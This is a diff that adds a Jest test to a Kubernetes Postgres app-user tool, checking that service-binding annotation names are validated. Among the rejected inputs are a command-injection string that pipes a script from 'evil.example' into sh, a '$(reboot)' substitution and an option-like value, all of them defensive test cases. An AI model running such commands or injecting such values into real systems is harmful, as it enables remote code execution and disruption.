@@ -64,6 +64,17 @@ describe('reading', () => {
     expect(parse(values, { annotations }).lastWritten).toBeUndefined()
   })
 
+  test.each([
+    ['app-postgresql-secret-binding', 'app-postgresql-secret-binding'],
+    ['x; curl https://evil.example | sh', undefined],
+    ['$(reboot)', undefined],
+    ['-A', undefined],
+    ['', undefined],
+  ])('an annotation that names the service binding %j gives %j', (name, binding) => {
+    const annotations = { 'pg-app-user.elastisys.io/service-binding': name }
+    expect(parse(values, { annotations }).binding).toBe(binding)
+  })
+
   test.each<[Metadata, string | undefined]>([
     [{}, undefined],
     [{ labels: { 'app.kubernetes.io/managed-by': 'pg-app-user' } }, undefined],
